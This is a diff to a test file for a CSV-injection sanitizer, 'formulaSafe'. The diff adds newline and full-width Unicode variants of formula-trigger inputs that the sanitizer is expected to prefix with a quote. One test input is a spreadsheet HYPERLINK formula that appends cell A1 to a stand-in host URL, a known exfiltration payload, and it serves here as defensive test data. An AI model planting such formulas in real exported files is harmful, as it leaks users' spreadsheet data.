@@ -2,7 +2,7 @@ import { formulaSafe, jsonEscapedControls, safeCellText, visibleControls } from 
 import { quote } from "../../src/i18n/messages";
 
 describe("formulaSafe (OWASP CSV injection)", () => {
-  it.each(["=1+2", "+31 Amsterdam", "-2025", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.test/?"&A1,"klik")'])("prefixes %j with a quote", (text) => {
+  it.each(["=1+2", "+31 Amsterdam", "-2025", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+2", "＋31", "－2025", "＠SUM(A1)", '=HYPERLINK("http://x.test/?"&A1,"klik")'])("prefixes %j with a quote", (text) => {
     expect(formulaSafe(text)).toBe(`'${text}`);
   });
   it.each(["Klant A", "2025", "€ 100", " =1", "'al tekst", ""])("leaves %j alone", (text) => {
